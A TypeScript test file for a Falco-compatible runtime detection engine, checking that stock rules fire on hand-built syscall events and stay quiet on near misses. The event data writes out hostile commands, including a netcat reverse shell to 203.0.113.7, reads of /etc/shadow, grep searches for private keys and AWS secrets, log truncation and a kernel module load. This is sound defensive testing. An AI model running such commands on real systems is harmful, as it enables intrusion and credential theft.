import { existsSync, readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import type { Expr, FieldOperand } from '../../src/runtime/engine/ast.js';
import { bindField } from '../../src/runtime/engine/fields/registry.js';
import { Engine, formatLoadMessage, loadRules, type RuleSet } from '../../src/runtime/engine/index.js';
import { parseCondition } from '../../src/runtime/engine/parser.js';
import { inlineSource } from '../../src/runtime/engine/source.js';
import type { FdInfo, ProcessInfo, RuntimeEvent } from '../../src/runtime/event/types.js';
import {
  BASE_TS,
  connect,
  container,
  event,
  exec,
  init,
  nginx,
  O_CREAT,
  O_RDONLY,
  O_TRUNC,
  O_WRONLY,
  openat,
  proc,
  shim,
} from './support/events.js';

/** The stock stable rules, read unmodified from the shared checkout next to the repository. */
const STOCK = fileURLToPath(new URL('../../../shared/falco/falco_rules.yaml', import.meta.url));

function loadStock(): RuleSet {
  if (!existsSync(STOCK)) {
    throw new Error(
      `Falco's stock rules are missing: expected ${STOCK} (../shared/falco/falco_rules.yaml from the repo)`,
    );
  }
  const result = loadRules([STOCK], { hostname: 'node-1' });
  if (!result.ok)
    throw new Error(`stock rules failed to load:\n${result.errors.map(formatLoadMessage).join('\n')}`);
  return result.ruleSet;
}

describe('the stock Falco rules', () => {
  it('load unmodified with zero errors', () => {
    const result = loadRules([STOCK], { hostname: 'node-1' });
    expect(existsSync(STOCK), `missing ${STOCK}`).toBe(true);
    expect(result.errors.map(formatLoadMessage)).toEqual([]);
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.ruleSet.rules.length).toBeGreaterThanOrEqual(25);
    // Every stock rule names its event types, so none is evaluated for every event.
    for (const rule of result.ruleSet.rules) expect(rule.eventTypes.complement, rule.name).toBe(false);
  });

  it('use only fields the engine implements, in every macro, rule and output', () => {
    const items = parseYaml(readFileSync(STOCK, 'utf8')) as Record<string, unknown>[];
    const fields = new Set<string>();
    const collect = (op: FieldOperand): void => {
      if (op.kind === 'transform') collect(op.operand);
      else fields.add(op.arg === undefined ? op.name : `${op.name}[${op.arg}]`);
    };
    const walk = (e: Expr): void => {
      if (e.kind === 'and' || e.kind === 'or') e.children.forEach(walk);
      else if (e.kind === 'not') walk(e.child);
      else if (e.kind === 'check') {
        collect(e.left);
        if (e.right?.kind === 'fieldval') collect(e.right.field);
      }
    };
    for (const item of items) {
      if (typeof item.condition === 'string') walk(parseCondition(inlineSource(item.condition)));
      if (typeof item.output === 'string') {
        for (const m of item.output.matchAll(/%([a-z0-9_.]+)(?:\[([^\]]*)\])?/g)) {
          fields.add(m[2] === undefined ? (m[1] as string) : `${m[1]}[${m[2]}]`);
        }
      }
    }
    expect(fields.size).toBeGreaterThan(50);
    for (const f of fields) {
      const m = /^([^[]+)(?:\[(.*)\])?$/.exec(f) as RegExpExecArray;
      const bound = bindField(m[1] as string, m[2], { hostname: 'h' });
      expect(typeof bound === 'string' ? `${f}: ${bound}` : f).toBe(f);
    }
  });
});

const ruleSet = loadStock();
const engine = new Engine(ruleSet);
const ruleNames = new Set(ruleSet.rules.map((r) => r.name));
const fire = (e: RuntimeEvent): string[] => engine.process(e).map((a) => a.rule);

const inContainer = (init: Parameters<typeof proc>[0], parent: ProcessInfo = nginx) => proc(init, parent);
const shell = (
  args: string[],
  extra: Partial<Parameters<typeof proc>[0]> = {},
  parent: ProcessInfo = nginx,
) => proc({ name: 'sh', exe: 'sh', exePath: '/bin/sh', args, ...extra }, parent);
const tool = (
  name: string,
  args: string[] = [],
  extra: Partial<Parameters<typeof proc>[0]> = {},
  parent: ProcessInfo = nginx,
) => proc({ name, exe: name, exePath: `/usr/bin/${name}`, args, ...extra }, parent);

const sshd = proc({ pid: 300, name: 'sshd', exe: '/usr/sbin/sshd', exePath: '/usr/sbin/sshd' }, init);
const capsOf = (...bits: number[]) => bits.reduce((m, b) => m | (1n << BigInt(b)), 0n);
const CAP_DAC_OVERRIDE = 1;
const CAP_SYS_MODULE = 16;
const CAP_SYS_ADMIN = 21;

const ipv4Socket: FdInfo = {
  num: 3,
  type: 'ipv4',
  name: '172.17.0.2:40000->203.0.113.7:4444',
  l4proto: 'tcp',
  cip: '172.17.0.2',
  cport: 40000,
  sip: '203.0.113.7',
  sport: 4444,
  isServer: false,
};

interface Trigger {
  readonly rule: string;
  readonly fires: RuntimeEvent;
  readonly quiet: readonly RuntimeEvent[];
}

const triggers: readonly Trigger[] = [
  {
    rule: 'Directory traversal monitored file read',
    fires: {
      ...openat(inContainer({ name: 'php-fpm' }), '/etc/passwd', O_RDONLY),
      fd: { num: 3, type: 'file', name: '/etc/passwd', nameRaw: '/var/www/html/../../../etc/passwd' },
    },
    quiet: [openat(inContainer({ name: 'php-fpm' }), '/etc/passwd', O_RDONLY)],
  },
  {
    rule: 'Read sensitive file trusted after startup',
    fires: openat(nginx, '/etc/shadow', O_RDONLY),
    quiet: [openat(proc({ ...nginx, startTs: BASE_TS }, shim), '/etc/shadow', O_RDONLY)],
  },
  {
    rule: 'Read sensitive file untrusted',
    fires: openat(tool('cat', ['/etc/shadow']), '/etc/shadow', O_RDONLY),
    quiet: [
      openat(tool('passwd'), '/etc/shadow', O_RDONLY),
      openat(tool('cat', ['/etc/hostname']), '/etc/hostname', O_RDONLY),
      openat(tool('cat', ['/etc/shadow']), '/etc/shadow', O_RDONLY, -13),
    ],
  },
  {
    rule: 'Run shell untrusted',
    fires: exec(shell(['-c', 'id'])),
    quiet: [
      exec(shell(['-c', 'uname -a 2>&1'])),
      exec(shell(['-c', 'id'], {}, proc({ name: 'bash' }, init))),
    ],
  },
  {
    rule: 'System user interactive',
    fires: exec(tool('ls', [], { user: { uid: 33, name: 'www-data' } }, proc({ name: 'bash' }, sshd))),
    quiet: [exec(tool('ls', [], { user: { uid: 1000, name: 'alice' } }, proc({ name: 'bash' }, sshd)))],
  },
  {
    rule: 'Terminal shell in container',
    fires: exec(shell([], { tty: 34816, container }, shim)),
    quiet: [exec(shell([], { container }, shim)), exec(shell([], { tty: 34816 }, shim))],
  },
  {
    rule: 'Contact K8S API Server From Container',
    fires: {
      ...connect(nginx, '10.96.0.1', 443),
      fd: { ...ipv4Socket, sip: '10.96.0.1', sport: 443, sipName: 'kubernetes.default.svc.cluster.local' },
    },
    quiet: [
      connect(nginx, '10.96.0.1', 443),
      {
        ...connect(
          proc(
            {
              name: 'coredns',
              container: { ...container, labels: { 'io.kubernetes.pod.namespace': 'kube-system' } },
            },
            shim,
          ),
          '10.96.0.1',
          443,
        ),
        fd: { ...ipv4Socket, sipName: 'kubernetes.default.svc.cluster.local' },
      },
    ],
  },
  {
    rule: 'Netcat Remote Code Execution in Container',
    fires: exec(tool('nc', ['-e', '/bin/sh', '203.0.113.7', '4444'])),
    quiet: [exec(tool('nc', ['-z', '203.0.113.7', '4444']))],
  },
  {
    rule: 'Search Private Keys or Passwords',
    fires: exec(tool('grep', ['-r', 'BEGIN RSA PRIVATE', '/'])),
    quiet: [exec(tool('grep', ['-r', 'TODO', '/src']))],
  },
  {
    rule: 'Clear Log Activities',
    fires: openat(tool('truncate'), '/var/log/auth.log', O_WRONLY | O_TRUNC),
    quiet: [openat(tool('logger'), '/var/log/auth.log', O_WRONLY)],
  },
  {
    rule: 'Remove Bulk Data from Disk',
    fires: exec(tool('shred', ['-u', '/data/db'])),
    quiet: [exec(tool('rm', ['-rf', '/tmp/x']))],
  },
  {
    rule: 'Create Symlink Over Sensitive Files',
    fires: event('symlinkat', tool('ln'), { target: '/etc/shadow', linkdirfd: -100, linkpath: '/tmp/s' }),
    quiet: [event('symlinkat', tool('ln'), { target: '/etc/hosts', linkdirfd: -100, linkpath: '/tmp/h' })],
  },
  {
    rule: 'Create Hardlink Over Sensitive Files',
    fires: event('linkat', tool('ln'), {
      olddir: -100,
      oldpath: '/etc/shadow',
      newdir: -100,
      newpath: '/tmp/s',
      flags: 0,
    }),
    quiet: [
      event('linkat', tool('ln'), {
        olddir: -100,
        oldpath: '/etc/motd',
        newdir: -100,
        newpath: '/tmp/m',
        flags: 0,
      }),
    ],
  },
  {
    rule: 'Packet socket created in container',
    fires: event('socket', tool('tcpdump'), { domain: 17, type: 3, proto: 768 }, { res: 3 }),
    quiet: [event('socket', tool('curl'), { domain: 2, type: 1, proto: 0 }, { res: 3 })],
  },
  {
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    fires: event('dup2', shell(['-i']), { oldfd: 3, newfd: 1 }, { res: 1, fd: ipv4Socket }),
    quiet: [event('dup2', shell(['-i']), { oldfd: 3, newfd: 5 }, { res: 5, fd: ipv4Socket })],
  },
  {
    rule: 'Linux Kernel Module Injection Detected',
    fires: event('finit_module', tool('insmod', ['evil.ko'], { capEffective: capsOf(CAP_SYS_MODULE) }), {
      fd: 3,
    }),
    quiet: [
      event('finit_module', tool('insmod', ['evil.ko'], { capEffective: capsOf(CAP_SYS_ADMIN) }), { fd: 3 }),
    ],
  },
  {
    rule: 'Debugfs Launched in Privileged Container',
    fires: exec(tool('debugfs', ['/dev/sda1'], { container: { ...container, privileged: true } }, shim)),
    quiet: [exec(tool('debugfs', ['/dev/sda1']))],
  },
  {
    rule: 'Detect release_agent File Container Escapes',
    fires: openat(
      tool('sh', [], { capEffective: capsOf(CAP_SYS_ADMIN, CAP_DAC_OVERRIDE) }),
      '/tmp/cgrp/release_agent',
      O_WRONLY,
    ),
    quiet: [
      openat(tool('sh', [], { capEffective: capsOf(CAP_DAC_OVERRIDE) }), '/tmp/cgrp/release_agent', O_WRONLY),
    ],
  },
  {
    rule: 'PTRACE attached to process',
    fires: event('ptrace', tool('gdb'), { request: 16, pid: 1234 }),
    quiet: [event('ptrace', tool('gdb'), { request: 12, pid: 1234 })],
  },
  {
    rule: 'PTRACE anti-debug attempt',
    fires: event('ptrace', tool('malware'), { request: 0, pid: 0 }),
    quiet: [event('ptrace', tool('strace'), { request: 24, pid: 1234 })],
  },
  {
    rule: 'Find AWS Credentials',
    fires: exec(tool('grep', ['-ri', 'aws_secret_access_key', '/home'])),
    quiet: [exec(tool('grep', ['-ri', 'password', '/home']))],
  },
  {
    rule: 'Execution from /dev/shm',
    fires: exec(proc({ name: 'x', exe: '/dev/shm/x', exePath: '/dev/shm/x' }, nginx)),
    quiet: [exec(proc({ name: 'x', exe: '/tmp/x', exePath: '/tmp/x' }, proc({ name: 'bash' }, init)))],
  },
  {
    rule: 'Drop and execute new binary in container',
    fires: exec(
      proc(
        { name: 'dropper', exe: '/tmp/dropper', exePath: '/tmp/dropper', exeUpperLayer: true },
        proc({ name: 'bash', container }, shim),
      ),
    ),
    quiet: [
      exec(
        proc(
          { name: 'ls', exe: 'ls', exePath: '/bin/ls', exeUpperLayer: false },
          proc({ name: 'bash', container }, shim),
        ),
      ),
    ],
  },
  {
    rule: 'Disallowed SSH Connection Non Standard Port',
    fires: connect(tool('ssh', ['-p', '443', 'attacker@203.0.113.7'], { exe: 'ssh' }), '203.0.113.7', 443),
    quiet: [
      connect(tool('ssh', [], { exe: 'ssh' }), '203.0.113.7', 22),
      connect(tool('ssh', [], { exe: 'ssh' }), '10.0.0.5', 443),
      connect(tool('ssh', [], { exe: 'ssh' }), '203.0.113.7', 443, -111),
    ],
  },
  {
    rule: 'Fileless execution via memfd_create',
    fires: exec(
      proc(
        { name: '3', exe: 'memfd:payload', exePath: 'memfd:payload', exeFromMemfd: true },
        proc({ name: 'python3', container }, shim),
      ),
    ),
    quiet: [
      exec(
        proc(
          { name: 'runc', exe: 'runc', exePath: 'memfd:runc_cloned:/proc/self/exe', exeFromMemfd: true },
          init,
        ),
      ),
    ],
  },
];

describe('hand-built events against the stock rules', () => {
  it('cover every stock rule', () => {
    expect(triggers.map((t) => t.rule).sort()).toEqual([...ruleNames].sort());
  });

  it.each(triggers)('$rule fires (and stays quiet on near misses)', ({ rule, fires, quiet }) => {
    expect(ruleNames.has(rule), `${rule} is in the stock file`).toBe(true);
    expect(fire(fires)).toEqual([rule]);
    for (const [i, e] of quiet.entries()) expect(fire(e), `near miss #${i}`).not.toContain(rule);
  });

  it('produce Falco-shaped alerts with the output fields filled in', () => {
    const [alert] = engine.process(openat(tool('cat', ['/etc/shadow']), '/etc/shadow', O_RDONLY));
    expect(alert).toMatchObject({
      rule: 'Read sensitive file untrusted',
      priority: 'Warning',
      source: 'syscall',
      hostname: 'node-1',
      tags: expect.arrayContaining(['maturity_stable', 'T1555']),
    });
    expect(alert?.time).toMatch(/^2023-11-14T22:13:20\.\d{9}Z$/);
    expect(alert?.output).toMatch(
      /^\d\d:\d\d:\d\d\.\d{9}: Warning Sensitive file opened for reading by non-trusted program \| file=\/etc\/shadow gparent=containerd-shim ggparent=systemd gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=cat proc_exepath=\/usr\/bin\/cat parent=nginx command=cat \/etc\/shadow terminal=0 container_id=3ad7b26ded6d container_name=web$/,
    );
    expect(alert?.output_fields).toMatchObject({
      'fd.name': '/etc/shadow',
      'proc.aname[4]': null,
      'user.uid': 0,
      'container.id': '3ad7b26ded6d',
    });
  });

  it('report the execve flags of a dropped binary', () => {
    const e = exec(
      proc(
        { name: 'dropper', exe: '/tmp/dropper', exePath: '/tmp/dropper', exeUpperLayer: true },
        proc({ name: 'bash', container }, shim),
      ),
    );
    const [alert] = engine.process({ ...e, args: { ...e.args, flags: 2 } });
    expect(alert?.output_fields['evt.arg.flags']).toBe('EXE_UPPER_LAYER');
  });

  it('do not include a write-below-etc rule, which a local rules file can add with the stock macros', () => {
    const write = openat(tool('tee'), '/etc/passwd', O_WRONLY | O_CREAT);
    expect(fire(write)).toEqual([]);
    const local = {
      name: 'local_rules.yaml',
      content: [
        '- rule: Write below etc',
        '  desc: a file below /etc is opened for writing',
        '  condition: open_write and container and etc_dir',
        '  output: File below /etc opened for writing (file=%fd.name command=%proc.cmdline)',
        '  priority: ERROR',
        '  tags: [filesystem]',
      ].join('\n'),
    };
    const both = loadRules([STOCK, local], { hostname: 'node-1' });
    expect(both.errors).toEqual([]);
    if (!both.ok) return;
    const [alert] = new Engine(both.ruleSet).process(write);
    expect(alert?.rule).toBe('Write below etc');
    expect(alert?.output).toContain('File below /etc opened for writing (file=/etc/passwd command=tee)');
  });

  it('index rules by event type, so an event is tested against few rules', () => {
    expect(engine.rulesFor('close')).toEqual([]);
    expect(engine.rulesFor('openat')).toEqual([
      'Directory traversal monitored file read',
      'Read sensitive file trusted after startup',
      'Read sensitive file untrusted',
      'Clear Log Activities',
      'Detect release_agent File Container Escapes',
    ]);
    expect(engine.rulesFor('execve').length).toBeLessThan(ruleSet.rules.length / 2);
  });
});
